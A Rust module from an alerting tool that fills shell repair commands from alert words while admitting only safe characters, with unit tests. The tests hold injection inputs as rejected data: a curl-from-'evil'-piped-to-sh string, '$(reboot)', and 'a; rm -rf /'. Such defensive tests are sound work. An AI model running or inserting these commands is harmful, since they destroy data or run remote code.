//! The command that repairs what an alert tells of: words of the alert, put into a line of the configuration.
//!
//! An alert's text may come from anywhere. Only words of `[A-Za-z0-9._-]` get into a line that a person will paste into a
//! shell; an alert with any other is shown without a command.

use std::collections::BTreeMap;

use crate::alert::Pairs;

/// The commands of the configuration by name.
#[derive(Debug, Default)]
pub(crate) struct RepairCommands(BTreeMap<String, Vec<Piece>>);

#[derive(Debug, PartialEq, Eq)]
enum Piece {
    Text(String),
    /// Filled from the words of the alert, in their order.
    Word,
    /// Filled from the label `instance`.
    Instance,
}

/// A longer word is none of ours.
const MAX_WORD: usize = 128;

impl RepairCommands {
    /// Reads `name: line with {placeholders}`.
    pub(crate) fn new(lines: BTreeMap<String, String>) -> Result<Self, String> {
        let mut commands = BTreeMap::new();
        for (name, line) in lines {
            if !safe(&name) {
                return Err(format!(
                    "repair_commands: the name {name:?} must be of letters, digits, '.', '_' and '-'"
                ));
            }
            let pieces =
                pieces(&line).map_err(|reason| format!("repair_commands.{name}: {reason}"))?;
            commands.insert(name, pieces);
        }
        Ok(Self(commands))
    }

    /// The line for an alert whose annotation `repair` is `name word…`; None when there is no such command, when the words
    /// are too many or too few, or when any of them could mean something to a shell.
    pub(crate) fn line(&self, repair: &str, labels: &Pairs) -> Option<String> {
        let mut words = repair.split(' ').filter(|it| !it.is_empty());
        let pieces = self.0.get(words.next()?)?;
        let mut line = String::new();
        for piece in pieces {
            match piece {
                Piece::Text(text) => line.push_str(text),
                Piece::Word => line.push_str(words.next().filter(|it| safe(it))?),
                Piece::Instance => {
                    line.push_str(labels.get("instance").filter(|it| safe(it))?);
                }
            }
        }
        words.next().is_none().then_some(line)
    }
}

/// Of `[A-Za-z0-9._-]` only, and no option.
fn safe(word: &str) -> bool {
    let allowed = |it: char| it.is_ascii_alphanumeric() || matches!(it, '.' | '_' | '-');
    !word.is_empty()
        && word.len() <= MAX_WORD
        && !word.starts_with('-')
        && word.chars().all(allowed)
}

fn pieces(line: &str) -> Result<Vec<Piece>, &'static str> {
    if line.trim().is_empty() {
        return Err("the line is empty");
    }
    if line.chars().any(char::is_control) {
        return Err("a command is one line");
    }
    let mut pieces = Vec::new();
    let mut rest = line;
    while let Some((text, after)) = rest.split_once('{') {
        let (name, after) = after.split_once('}').ok_or("a brace is not closed")?;
        pieces.push(Piece::Text(text.to_owned()));
        pieces.push(match name {
            "" => return Err("a placeholder has no name"),
            "instance" => Piece::Instance,
            _ => Piece::Word,
        });
        rest = after;
    }
    pieces.push(Piece::Text(rest.to_owned()));
    Ok(pieces)
}

#[cfg(test)]
mod tests {
    use super::RepairCommands;
    use crate::alert::Pairs;

    fn pairs<const N: usize>(pairs: [(&str, &str); N]) -> Pairs {
        pairs
            .map(|(name, value)| (name.to_owned(), value.to_owned()))
            .into()
    }

    #[test]
    fn lines() {
        let commands = RepairCommands::new(pairs([
            ("start", "provisioner local start {program}"),
            (
                "replace",
                "provisioner -e prod replace {role} {number} # {instance}",
            ),
            ("plan", "provisioner plan"),
        ]))
        .unwrap();
        let labels = pairs([("instance", "scalar-1.example")]);
        for (repair, expect) in [
            (
                "start node-exporter",
                Some("provisioner local start node-exporter"),
            ),
            (
                "  start   node-exporter ",
                Some("provisioner local start node-exporter"),
            ),
            (
                "replace scalar 1",
                Some("provisioner -e prod replace scalar 1 # scalar-1.example"),
            ),
            ("plan", Some("provisioner plan")),
            ("start", None),
            ("start a b", None),
            ("plan x", None),
            ("stop a", None),
            ("", None),
            ("start x;curl${IFS}evil|sh", None),
            ("start $(reboot)", None),
            ("start `reboot`", None),
            ("start --force", None),
            ("start a\nb", None),
            ("start ../x", None),
            ("start é", None),
        ] {
            assert_eq!(
                commands.line(repair, &labels).as_deref(),
                expect,
                "{repair}"
            );
        }
        let hostile = pairs([("instance", "a; rm -rf /")]);
        assert_eq!(commands.line("replace scalar 1", &hostile), None);
        assert_eq!(commands.line("replace scalar 1", &Pairs::new()), None);
        let long = format!("start {}", "x".repeat(200));
        assert_eq!(commands.line(&long, &labels), None);
    }

    #[test]
    fn mistakes() {
        for (name, line) in [
            ("a b", "x"),
            ("", "x"),
            ("-a", "x"),
            ("a", ""),
            ("a", "x {"),
            ("a", "x {}"),
            ("a", "x\ny"),
        ] {
            assert!(
                RepairCommands::new(pairs([(name, line)])).is_err(),
                "{name}: {line}"
            );
        }
    }
}
